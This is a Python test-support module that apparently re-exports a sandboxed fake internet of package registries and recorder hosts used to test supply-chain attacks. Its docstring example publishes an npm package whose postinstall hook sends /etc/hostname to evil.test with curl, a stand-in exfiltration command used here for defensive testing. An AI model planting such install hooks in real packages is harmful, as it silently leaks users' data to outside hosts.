"""The test internet: registries and unfamiliar hosts that tests run in a network namespace.

Servers live at non-loopback addresses (198.18.N.x, fd00:c1:N+1::x) in a namespace that the
fixture creates, answer HTTP and HTTPS (certificates from a test CA), and are named by a DNS
server of their own that never forwards. Nothing here reaches the machine's resolver or any
address outside loopback and the namespace. See ``TestInternet`` and the ``test_internet``
fixture (tests/support/internet/fixture.py).

    def test_hook_exfiltrates(internet, tmp_path):
        internet.publish_npm("bad", "1.0.0", package_json_extra={"scripts": {
            "postinstall": "curl -s -d @/etc/hostname https://evil.test/x"}})
        env = internet.client_env(tmp_path / "home")  # npm/pip/curl know only the test internet
        subprocess.run(internet.wrap_with_test_resolver(["npm", "install", "bad"]), env=env, cwd=...)
        assert internet.requests_to("evil.test")[0].method == "POST"

Hosts: registry.npm.test (npm registry), pypi.test (PEP 503 simple index), files.pypi.test
(its files), crates.test and cratefiles.test (a cargo sparse index and its downloads),
gems.test (a gem source), apt.test (an apt repository), evil.test and exfil.test (record
everything; every subdomain resolves to them; UDP recorder on port 9999).
The DNS server is at ``dns_server`` (198.18.0.53 in slot 0).
"""

from tests.support.internet.core import (
    APT_REPO,
    CRATES_FILES,
    CRATES_INDEX,
    EVIL,
    EXFIL,
    GEMS,
    NPM_REGISTRY,
    PYPI_FILES,
    PYPI_INDEX,
    UDP_PORT,
    VCS,
    DnsQuery,
    HostAddresses,
    NpmPackage,
    PythonDist,
    RecordedRequest,
    TestInternet,
    TestInternetError,
    UdpDatagram,
    resolver_wrapper,
)

__all__ = [
    "APT_REPO",
    "CRATES_FILES",
    "CRATES_INDEX",
    "EVIL",
    "EXFIL",
    "GEMS",
    "NPM_REGISTRY",
    "PYPI_FILES",
    "PYPI_INDEX",
    "UDP_PORT",
    "VCS",
    "DnsQuery",
    "HostAddresses",
    "NpmPackage",
    "PythonDist",
    "RecordedRequest",
    "TestInternet",
    "TestInternetError",
    "UdpDatagram",
    "resolver_wrapper",
]
